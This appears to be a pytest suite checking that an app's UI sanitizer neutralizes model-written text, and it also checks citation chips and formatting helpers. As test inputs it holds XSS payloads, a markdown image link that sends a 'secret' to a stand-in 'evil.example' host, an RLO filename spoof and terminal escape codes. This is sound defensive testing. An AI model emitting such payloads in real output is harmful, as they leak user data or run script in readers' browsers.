from __future__ import annotations

import re

import pytest

from rlm_app.citations import Citation, Verdict
from rlm_app.turning import JOINER
from rlm_app.ui import chips, marked, safe, words


@pytest.mark.parametrize(
    "text",
    [
        "![x](http://evil.example/a.png?q=secret)",
        "![x][1]\n\n[1]: http://evil.example/a.png",
        "[click](javascript:alert(1))",
        "<img src=x onerror=alert(1)>",
        "<http://evil.example>",
        "see http://evil.example/a and www.evil.example and a.b@evil.example",
        "`code` ![x](http://evil.example) \\`![y](http://evil.example)`",
        "| a | ![x](http://evil.example) |",
        ":material/home: :red[alarm] $x^2$",
    ],
)
def test_what_a_model_writes_can_neither_load_nor_link_nor_draw(text: str) -> None:
    out = safe.markdown(text)
    outside = "".join(out.replace("\\`", "").split("`")[::2])
    for active in ("http://", "www.", "@evil"):
        assert active not in outside
    for sign in "[]<$:":
        assert f"{sign}" not in outside.replace(f"\\{sign}", "")


def test_emphasis_lists_and_tables_stay_as_they_are() -> None:
    text = "**bold** and *soft*\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n> quoted"
    assert safe.markdown(text) == text


def test_fenced_code_is_cut_out_and_never_read_as_markdown() -> None:
    found = safe.parts("before\n```python\nprint('![x](http://evil)')\n```\nafter")
    assert [(part.text.strip(), part.is_code) for part in found] == [
        ("before", False),
        ("print('![x](http://evil)')", True),
        ("after", False),
    ]


def test_a_chip_stands_behind_its_quote_and_links_only_where_there_is_a_passage() -> None:
    answer = "It says “the rent is due”. And “the moon is full”."
    found = Citation("the rent is due", Verdict.FOUND, "a", "lease.pdf", 10, 25, "1")
    lost = Citation("the moon is full", Verdict.NOT_FOUND)
    text = chips.with_chips(answer, [found, lost])[0].text
    assert "due” [:green-badge[:material/check: 1]](#quote-1)." in text
    assert "full” :red-badge[:material/close: 2]." in text


@pytest.mark.parametrize("text", [":material/home: sweet", "a :smile: here", ":streamlit:", "`:material/home:`"])
def test_names_of_icons_and_emoji_stay_words_everywhere(text: str) -> None:
    for out in (safe.markdown(text), safe.label(text)):
        shown = out.replace("\\", "")
        assert not re.search(r":(material/|streamlit:|smile:)", shown)
        assert shown.replace(JOINER, "") == text


@pytest.mark.parametrize(
    "text",
    [
        "the **net** value of _all_ `items` is a -> b & c",
        "1. first",
        "- second",
        "# third",
        "a <= b",
        "see https://evil.example, www.evil.example and me@evil.example",
    ],
)
def test_a_label_shows_the_signs_of_the_source(text: str) -> None:
    out = safe.label(text)
    assert re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", out).replace(JOINER, "") == text
    bare = out.replace("\\", "")
    for active in ("https://evil", "www.evil", "me@evil", " -> ", " <= "):
        assert active not in bare
    assert not re.match(r"(\d+\.|-|#) ", out)


def test_a_quotation_in_an_answer_shows_word_for_word_and_the_rest_is_formatted() -> None:
    answer = "**Yes**: “the **net** price :material/home: of\n> 3 * 4” and `“the fee is due”`"
    found = Citation("the **net** price :material/home: of 3 * 4", Verdict.FOUND, "a", "lease.pdf", 10, 25, "1")
    code = Citation("the fee is due", Verdict.FOUND, "a", "lease.pdf", 10, 25, "1")
    text = chips.with_chips(answer, [found, code])[0].text
    assert text.startswith("**Yes**\\: “the \\*\\*net\\*\\* price")
    assert "\n> 3 \\* 4” [:green-badge[:material/check: 1]](#quote-1)" in text
    assert text.endswith("`“the fee is due”`")
    assert "\ue002" not in text


def test_a_model_cannot_forge_a_chip() -> None:
    text = chips.with_chips("\ue0001\ue001 and :green-badge[:material/check: 9]", [])[0].text
    assert "\ue000" not in text
    assert ":green-badge" not in text.replace("\\:", "")


def test_document_text_is_escaped_around_its_marks() -> None:
    assert marked.html_of("<b>a & b</b>", [(3, 8)]) == "&lt;b&gt;<mark>a &amp; b</mark>&lt;/b&gt;"
    assert marked.merged([(5, 9), (0, 3), (2, 4), (8, 99), (7, 7)], 12) == [(0, 4), (5, 12)]


@pytest.mark.parametrize(
    ("amount", "shown"),
    [(None, "–"), (0, "$0.00"), (0.0021, "$0.0021"), (0.00002, "<$0.0001"), (0.034, "$0.034"), (1.5, "$1.50")],
)
def test_money_has_two_meaningful_digits(amount: float | None, shown: str) -> None:
    assert words.money(amount) == shown


@pytest.mark.parametrize(("seconds", "shown"), [(7.9, "0:07"), (750, "12:30"), (3723, "1:02:03")])
def test_elapsed_time_reads_like_a_clock(seconds: float, shown: str) -> None:
    assert words.clock(seconds) == shown


def test_times_are_said_from_where_the_reader_is() -> None:
    assert words.when(1000, now=1010) == "just now"
    assert words.when(1000, now=1000 + 600) == "10 min ago"
    assert words.when(0, "Pacific/Auckland", now=10**6) == "1 Jan 1970"
    assert words.moment(0, "Asia/Tokyo") == "1 Jan 1970, 09:00"
    assert words.moment(0, "No/Such") == "1 Jan 1970, 00:00"


def test_nothing_turns_the_letters_of_a_text_about_and_each_keeps_its_place() -> None:
    name = "invoice-\u202efdp.exe \u2066and\u2069 \u202bmore\u202c"
    for made in (safe.level(name), safe.html(name), safe.unmarked(name)):
        assert len(made) == len(name)
        assert not set(made) & set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
    for made in (
        safe.label(name),
        safe.markdown(f"`{name}` {name}"),
        safe.quotation(name),
        safe.parts(f"```\n{name}\n```")[0].text,
    ):
        assert "\u202e" not in made
    hebrew = "\u05e9\u05dc\u05d5\u05dd \u200f(\u05e2)"
    assert safe.level(hebrew) == hebrew


def test_signs_that_steer_a_terminal_are_shown_as_what_they_are_and_lines_stay_lines() -> None:
    assert safe.level("\x1b[31mred\x07\x7f\x9b1m\tend\r\n") == "␛[31mred␇␡\ufffd1m\tend\r\n"
    assert safe.level("plain\tand\nlong") == "plain\tand\nlong"
